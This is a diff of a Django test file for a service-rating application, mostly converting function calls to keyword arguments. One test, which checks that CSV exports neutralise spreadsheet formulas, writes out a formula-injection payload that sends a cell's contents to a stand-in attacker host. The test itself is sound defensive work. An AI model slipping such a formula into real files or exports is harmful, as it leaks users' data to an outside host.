@@ -57,7 +57,9 @@ def test_enterprise_texts_with_control_characters_or_100_kb_are_refused_by_field
 ):
     listing = Listing.objects.get(rating=listed)
     with on(LATER):
-        offered = offer_service_rating(world.unit, TransactionKind.REPAIR_DECISION, listing)
+        offered = offer_service_rating(
+            unit=world.unit, kind=TransactionKind.REPAIR_DECISION, obj=listing
+        )
         sign_in(lenient, world.users["enterprise"])
         forms = [
             (
@@ -114,7 +116,9 @@ def test_bureau_reasons_with_control_characters_are_refused_by_field(world, list
             reverse("ratings:rerating_request", args=[listed.pk]),
             {"statement": "隐患已整改。", "files": [pdf_upload()]},
         )
-        offered = offer_service_rating(world.unit, TransactionKind.REPAIR_DECISION, listing)
+        offered = offer_service_rating(
+            unit=world.unit, kind=TransactionKind.REPAIR_DECISION, obj=listing
+        )
         lenient.post(reverse("feedback:rate", args=[offered.pk]), {"score": "1", "comment": ""})
         request, rerating = RepairRequest.objects.get(), Rerating.objects.get()
 
@@ -168,8 +172,8 @@ def test_a_published_reply_that_looks_like_a_formula_stays_text_in_the_open_data
     world, listed, client
 ):
     formula = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
-    reply = replies.submit(world.users["enterprise"], listed, formula)
-    replies.decide(world.users["bureau"], reply, action=replies.PUBLISH)
+    reply = replies.submit(user=world.users["enterprise"], rating=listed, text=formula)
+    replies.decide(actor=world.users["bureau"], reply=reply, action=replies.PUBLISH)
     body = b"".join(client.get(reverse("api:ratings_csv")).streaming_content).decode("utf-8-sig")
     assert "'=HYPERLINK" in body
     assert ',"=HYPERLINK' not in body and "\n=HYPERLINK" not in body
